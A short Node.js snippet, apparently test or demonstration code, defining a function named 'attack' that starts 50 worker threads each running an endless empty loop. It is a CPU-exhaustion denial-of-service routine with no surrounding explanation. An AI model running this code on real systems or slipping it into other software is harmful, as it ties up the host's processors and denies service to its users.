function attack() {
    const {Worker} = require('worker_threads');
    for (let i = 0; i < 50; ++i) {
        new Worker('for (;;) {}', {eval: true});
    }
}
